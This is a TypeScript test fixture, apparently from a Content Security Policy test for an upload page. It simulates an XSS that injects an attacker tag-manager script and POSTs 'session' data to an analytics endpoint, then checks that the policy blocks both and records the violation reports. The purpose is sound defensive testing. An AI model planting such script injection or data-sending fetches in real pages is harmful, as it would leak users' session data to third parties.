/**
 * What an XSS on the upload page would try: load a tag manager of its own, and send data to an
 * origin that is not the Supabase project.
 */
export const injection = [
  'https://www.googletagmanager.com/gtm.js?id=GTM-ATTACKER',
  'https://www.google-analytics.com/g/collect?v=2',
] as const;

/** What `attemptInjection` gives back when the page's policy holds. */
export const injectionBlocked = {
  script: 'blocked',
  sent: 'blocked',
  attackerRan: false,
  reports: [
    'connect-src https://www.google-analytics.com/g/collect',
    'script-src https://www.googletagmanager.com/gtm.js',
  ],
};

/**
 * Runs in the page (every layer's driver serialises it): injects the script and sends the
 * fetch, then reports what happened and the policy's violation reports, each as its directive
 * (`script-src-elem` as `script-src`, as engines differ) and the blocked URL without its query.
 */
export async function attemptInjection([scriptUrl, fetchUrl]: readonly [string, string]) {
  const reports: string[] = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    const directive = event.effectiveDirective.replace(/-elem$/, '');
    reports.push(`${directive} ${event.blockedURI.split('?')[0]}`);
  });
  const script = document.createElement('script');
  script.src = scriptUrl;
  const loaded = new Promise<string>((resolve) => {
    script.onload = () => resolve('ran');
    script.onerror = () => resolve('blocked');
  });
  document.head.append(script);
  const sent = await fetch(fetchUrl, { method: 'POST', body: 'session' }).then(
    () => 'sent',
    () => 'blocked',
  );
  const outcome = { script: await loaded, sent, attackerRan: 'attackerRan' in window };
  // The reports are queued as tasks after the refusals: wait for both kinds.
  for (let frame = 0; frame < 600 && new Set(reports).size < 2; frame += 1) {
    await new Promise(requestAnimationFrame);
  }
  return { ...outcome, reports: [...new Set(reports)].toSorted() };
}
